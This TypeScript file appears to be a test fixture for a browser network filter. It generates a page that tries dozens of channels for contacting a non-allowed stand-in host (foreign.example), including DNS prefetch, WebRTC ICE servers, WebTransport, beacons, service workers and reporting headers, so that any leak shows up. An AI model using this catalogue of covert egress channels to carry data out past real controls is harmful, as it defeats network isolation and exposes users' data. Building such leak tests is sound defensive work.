/**
 * Ways in which a page can make a browser send a packet or ask for a name. Each gets a host of its own, so that
 * what arrives tells by which way it came. What they send is worth nothing: the name alone carries it out.
 */

/** The domain of all hosts here; it is in no list. */
export const FOREIGN = 'foreign.example';

/** The host that a way uses. */
export const leakHost = (way: string): string => `${way}.${FOREIGN}`;

/** A listed host whose certificate says: ask there for who has signed me, and there whether I am still good. */
export const POINTING = 'pointing.listed.example';

/** Scripts of the page; `host` is the way's own, `wait(target, ...events)` resolves with the first of them. */
const SCRIPTS = {
  'dns-prefetch': `add('link', { rel: 'dns-prefetch', href: '//' + host })`,
  'dns-prefetch-link': `add('a', { href: 'https://' + host + '/', textContent: 'a' })`,
  preconnect: `add('link', { rel: 'preconnect', href: 'https://' + host }); add('link', { rel: 'preconnect', href: 'https://x.' + host, crossOrigin: '' })`,
  prefetch: `add('link', { rel: 'prefetch', href: 'https://' + host + '/' })`,
  prerender: `add('link', { rel: 'prerender', href: 'https://' + host + '/' })`,
  preload: `add('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: 'https://' + host + '/' })`,
  modulepreload: `add('link', { rel: 'modulepreload', href: 'https://' + host + '/a.js' })`,
  stylesheet: `add('link', { rel: 'stylesheet', href: 'https://' + host + '/a.css' })`,
  icon: `add('link', { rel: 'icon', href: 'https://' + host + '/i.png' })`,
  manifest: `add('link', { rel: 'manifest', href: 'https://' + host + '/m.json' })`,
  'speculation-prefetch': `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['https://' + host + '/'], eagerness: 'immediate', requires: ['anonymous-client-ip-when-cross-origin'] }, { urls: ['https://b.' + host + '/'], eagerness: 'immediate' }] }) })`,
  'speculation-prerender': `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: ['https://' + host + '/'], eagerness: 'immediate' }] }) })`,
  'ice-stun': `return gather([{ urls: 'stun:' + host + ':3478' }])`,
  'ice-turn': `return gather([{ urls: 'turn:' + host + ':3478', username: 'u', credential: 'c' }])`,
  'ice-turn-tcp': `return gather([{ urls: 'turn:' + host + ':443?transport=tcp', username: 'u', credential: 'c' }])`,
  'ice-turns': `return gather([{ urls: 'turns:' + host + ':443?transport=tcp', username: 'u', credential: 'c' }])`,
  'ice-address': `return gather([{ urls: ['stun:203.0.113.7:3478', 'stun:[2001:db8::7]:3478'] }, { urls: ['turn:203.0.113.7:443?transport=tcp', 'turn:127.0.0.1:8443?transport=tcp', 'turns:LISTED:8443?transport=tcp'], username: 'u', credential: 'c' }])`,
  'ice-candidate': `return gather([], host)`,
  'ice-mdns': `return gather([], 'f3c1b9aa-3d5c-4f0e-9a01-aa1122334455.local')`,
  'web-transport': `return transport('https://' + host + ':443/')`,
  'web-transport-address': `return transport('https://203.0.113.8:4433/')`,
  'web-transport-loopback': `return Promise.all(['https://127.0.0.1:4433/', 'https://localhost:4433/', 'https://[::1]:4433/'].map(transport))`,
  'web-transport-port': `return transport('https://LISTED:4433/')`,
  'web-transport-listed': `return transport('https://LISTED/')`,
  websocket: `return wait(new WebSocket('wss://' + host + '/'), 'open', 'error')`,
  'websocket-loopback': `return wait(new WebSocket('ws://127.0.0.1:8080/'), 'open', 'error')`,
  'websocket-port': `return wait(new WebSocket('wss://LISTED:8443/'), 'open', 'error')`,
  'event-source': `return wait(new EventSource('https://' + host + '/'), 'open', 'error')`,
  beacon: `navigator.sendBeacon('https://' + host + '/', 'zq')`,
  fetch: `return fetch('https://' + host + '/', { mode: 'no-cors' }).catch(() => 0)`,
  'fetch-port': `return fetch('https://LISTED:8443/', { mode: 'no-cors' }).catch(() => 0)`,
  'untrusted-certificate': `return fetch('https://${POINTING}/', { mode: 'no-cors' }).catch(() => 0)`,
  'early-hints': `return wait(add('iframe', { src: '/hints' }), 'load')`,
  'fetch-keepalive': `return fetch('https://' + host + '/', { mode: 'no-cors', keepalive: true }).catch(() => 0)`,
  'fetch-address': `return Promise.all(['https://203.0.113.9/', 'http://[2001:db8::9]/', 'http://127.0.0.1:8080/'].map((url) => fetch(url, { mode: 'no-cors' }).catch(() => 0)))`,
  xhr: `const x = new XMLHttpRequest(); x.open('POST', 'https://' + host + '/'); x.send('zq'); return wait(x, 'loadend')`,
  ping: `const a = add('a', { href: '#', ping: 'https://' + host + '/' }); a.click()`,
  image: `return wait(add('img', { src: 'https://' + host + '/i.png' }), 'load', 'error')`,
  srcset: `return wait(add('img', { srcset: 'https://' + host + '/i.png 1x' }), 'load', 'error')`,
  'css-url': `add('div', { textContent: 'a' }).style.background = 'url(https://' + host + '/b.png)'`,
  'css-import': `add('style', { textContent: '@import "https://' + host + '/i.css";' })`,
  font: `return new FontFace('f', 'url(https://' + host + '/f.woff2)').load().catch(() => 0)`,
  'import-map': `add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { zq: 'https://' + host + '/m.js' } }) }); return import('zq').catch(() => 0)`,
  script: `return wait(add('script', { src: 'https://' + host + '/s.js' }), 'load', 'error')`,
  'worker-import-scripts': `const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('https://" + host + "/w.js') } catch {} postMessage(0)"], { type: 'text/javascript' }))); return wait(w, 'message', 'error')`,
  'shared-worker-socket': `const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports: [p] }) => { const s = new WebSocket('wss://" + host + "/'); s.onopen = s.onerror = () => p.postMessage(0); }"], { type: 'text/javascript' }))); w.port.start(); return wait(w.port, 'message')`,
  'worker-transport': `const w = new Worker(URL.createObjectURL(new Blob(["const end = () => postMessage(0); try { new WebTransport('https://" + host + ":4433/').ready.then(end, end) } catch { end() }"], { type: 'text/javascript' }))); return wait(w, 'message', 'error')`,
  'service-worker-fetch': `return worker('fetch', host)`,
  'service-worker-socket': `return worker('socket', host)`,
  'service-worker-socket-loopback': `return worker('socket', '127.0.0.1:8443')`,
  'service-worker-socket-port': `return worker('socket', 'LISTED:8443')`,
  'service-worker-transport': `return worker('transport', host + ':4433')`,
  frame: `add('iframe', { src: 'https://' + host + '/' })`,
  'frame-srcdoc': `add('iframe', { srcdoc: '<link rel="dns-prefetch" href="//' + host + '"><link rel="preconnect" href="https://x.' + host + '">' })`,
  object: `add('object', { data: 'https://' + host + '/o' })`,
  embed: `add('embed', { src: 'https://' + host + '/e.svg' })`,
  'video-poster': `add('video', { poster: 'https://' + host + '/p.png' })`,
  video: `return wait(add('video', { src: 'https://' + host + '/v.mp4' }), 'error', 'loadeddata')`,
  track: `const v = add('video', { src: 'https://' + host + '/v.mp4', crossOrigin: '' }); const t = document.createElement('track'); t.src = 'https://' + host + '/t.vtt'; t.default = true; v.append(t); t.track.mode = 'showing'`,
  'svg-use': `document.body.insertAdjacentHTML('beforeend', '<svg><use href="https://' + host + '/u.svg#a"></use><image href="https://' + host + '/i.png"></image></svg>')`,
  'svg-filter': `add('div', { textContent: 'a' }).style.filter = 'url(https://' + host + '/f.svg#f)'`,
  xslt: `const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:import href="https://' + host + '/x.xsl"/><x:template match="/"><x:value-of select="document(&quot;https://' + host + '/d.xml&quot;)"/></x:template></x:stylesheet>', 'text/xml')); p.transformToFragment(document, document)`,
  'form-action': `const f = add('form', { action: 'https://' + host + '/', method: 'post', target: 'zqframe' }); add('iframe', { name: 'zqframe' }); f.submit()`,
  'window-open': `open('https://' + host + '/', 'zq' + host)`,
  'download-link': `add('a', { href: 'https://' + host + '/d.zip', download: '' }).click()`,
  'frame-refresh': `add('iframe', { srcdoc: '<meta http-equiv="refresh" content="0;url=https://' + host + '/">' })`,
  'frame-scheme': `for (const scheme of ['mailto:zq@', 'tel:', 'ftp://', 'smb://', 'ws://', 'intent://', 'search-ms:query=']) add('iframe', { src: scheme + host })`,
  'csp-report': `return wait(add('iframe', { src: '/csp' }), 'load')`,
  payment: `try { return new PaymentRequest([{ supportedMethods: 'https://' + host + '/pay' }], { total: { label: 'a', amount: { currency: 'RUB', value: '1' } } }).canMakePayment().catch(() => 0) } catch {}`,
  // Chromium answers neither yes nor no where it has no such thing.
  'login-status': `try { navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + host + '/f.json', clientId: '1' }] } }).catch(() => 0) } catch {}`,
  'background-fetch': `return navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch('zq', 'https://' + host + '/b')).catch(() => 0)`,
  'shared-storage': `try { return sharedStorage.worklet.addModule('https://' + host + '/s.js').catch(() => 0) } catch {}`,
  attribution: `add('img', { attributionSrc: 'https://' + host + '/a' }); try { return fetch('/', { attributionReporting: { eventSourceEligible: true, triggerEligible: false } }).catch(() => 0) } catch {}`,
  'ad-auction': `try { return navigator.joinAdInterestGroup({ owner: 'https://' + host, name: 'z', biddingLogicURL: 'https://' + host + '/b.js' }, 9).catch(() => 0) } catch {}`,
  'private-token': `try { return fetch('https://' + host + '/', { privateToken: { version: 1, operation: 'token-request' } }).catch(() => 0) } catch {}`,
  fenced: `try { add('fencedframe', {}).config = new FencedFrameConfig('https://' + host + '/') } catch {}`,
  portal: `add('portal', { src: 'https://' + host + '/' })`,
  related: `return document.hasStorageAccess?.().then(() => document.requestStorageAccessFor('https://' + host)).catch(() => 0)`,
} as const satisfies Record<string, string>;

/** Ways that are headers of the page: their hosts are in `leakHeaders`. */
const HEADERS = [
  'header-preload',
  'header-preconnect',
  'header-dns-prefetch',
  'header-reporting',
  'header-report-to',
  'header-csp-report',
  'header-alt-svc',
  'header-speculation',
] as const;

/** Every way by its name. */
export const leakWays: readonly string[] = [...Object.keys(SCRIPTS), ...HEADERS];

/** Headers with which a page begins that tries all ways. */
export const leakHeaders: Readonly<Record<string, string>> = {
  link: [
    `<https://${leakHost('header-preload')}/>; rel=preload; as=script`,
    `<https://${leakHost('header-preconnect')}>; rel=preconnect`,
    `<//${leakHost('header-dns-prefetch')}>; rel=dns-prefetch`,
  ].join(', '),
  'x-dns-prefetch-control': 'on',
  'reporting-endpoints': `default="https://${leakHost('header-reporting')}/r"`,
  'report-to': JSON.stringify({
    group: 'default',
    max_age: 86_400,
    endpoints: [{ url: `https://${leakHost('header-report-to')}/r` }],
  }),
  nel: JSON.stringify({ report_to: 'default', max_age: 86_400, success_fraction: 1 }),
  'content-security-policy-report-only': `img-src 'none'; report-uri https://${leakHost('header-csp-report')}/c; report-to default`,
  'alt-svc': `h3="${leakHost('header-alt-svc')}:443"; ma=86400, h3=":4434"; ma=86400`,
  'speculation-rules': `"https://${leakHost('header-speculation')}/rules.json"`,
};

/** Pages of the listed host that the frames of the page lead to. */
export const leakFrames = {
  '/csp': {
    headers: {
      'content-security-policy': `img-src 'none'; report-uri https://${leakHost('csp-report')}/c`,
    },
    body: '<!doctype html><title>report</title><img src="/i.svg">',
  },
  '/hints': {
    hints: [
      `<https://${leakHost('early-hints')}/a.js>; rel=preload; as=script`,
      `<https://x.${leakHost('early-hints')}>; rel=preconnect`,
    ],
    body: '<!doctype html><title>hints</title>',
  },
} as const;

/** The script of the service worker that the page uses. */
export const leakWorker = `
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  self.onmessage = async ({ data: [way, host], ports: [port] }) => {
    const end = (target, ...events) => new Promise((done) => { for (const one of events) target['on' + one] = done; });
    if (way === 'fetch') await fetch('https://' + host + '/', { mode: 'no-cors' }).catch(() => 0);
    if (way === 'socket') await end(new WebSocket('wss://' + host + '/'), 'open', 'error');
    if (way === 'transport' && self.WebTransport) await new WebTransport('https://' + host + '/').ready.catch(() => 0);
    port.postMessage(0);
  };
`;

/** The body of a page that tries every way and says so in its title; `listed` is a host of the list. */
export function leakPage(listed: string): string {
  const ways = Object.entries(SCRIPTS).map(
    ([way, script]) =>
      `[${JSON.stringify(leakHost(way))}, (host) => { ${script.replaceAll('LISTED', listed)} }]`,
  );
  return `<!doctype html><meta http-equiv="x-dns-prefetch-control" content="on"><title>trying</title><body>
<script>
const add = (name, fields) => { const one = document.createElement(name); for (const [key, value] of Object.entries(fields)) { try { one[key] = value; } catch {} if (key in one === false || typeof value === 'string') one.setAttribute(key, value); } (name === 'link' ? document.head : document.body).append(one); return one; };
const wait = (target, ...events) => new Promise((done) => { for (const one of events) target.addEventListener(one, done); });
const transport = (url) => { try { const one = new WebTransport(url); one.closed.catch(() => 0); return one.ready.catch(() => 0); } catch {} };
async function gather(iceServers, candidate) {
  if (!window.RTCPeerConnection) return;
  const [here, there] = [new RTCPeerConnection({ iceServers }), new RTCPeerConnection()];
  here.createDataChannel('zq');
  const gathered = new Promise((done) => { here.onicegatheringstatechange = () => here.iceGatheringState === 'complete' && done(); });
  await here.setLocalDescription();
  await there.setRemoteDescription(here.localDescription);
  await there.setLocalDescription();
  await here.setRemoteDescription(there.localDescription);
  if (candidate) await here.addIceCandidate({ candidate: 'candidate:1 1 udp 2113937151 ' + candidate + ' 54400 typ host', sdpMid: '0', sdpMLineIndex: 0 });
  if (candidate) await here.addIceCandidate({ candidate: 'candidate:2 1 tcp 2113937151 ' + candidate + ' 443 typ host tcptype passive', sdpMid: '0', sdpMLineIndex: 0 });
  await gathered;
}
async function worker(...message) {
  await navigator.serviceWorker.register('/sw.js');
  const { active } = await navigator.serviceWorker.ready;
  const { port1, port2 } = new MessageChannel();
  port1.start();
  const heard = wait(port1, 'message');
  active.postMessage(message, [port2]);
  await heard;
}
const ways = [${ways.join(',\n')}];
const failed = (window.failed = []);
const pending = (window.pending = new Set());
// Frames come last: while one of another site is refused, a new worker does not begin.
const isLate = ([host]) => /^(frame|object|embed|fenced|portal|form-action|csp-report|early-hints)/.test(host);
const tryAll = (some) => Promise.all(some.map(async ([host, way]) => { pending.add(host); try { await way(host); } catch (cause) { failed.push(host + ': ' + cause); } pending.delete(host); }));
tryAll(ways.filter((one) => !isLate(one))).then(() => tryAll(ways.filter(isLate))).then(() => { document.title = 'tried'; });
</script>`;
}
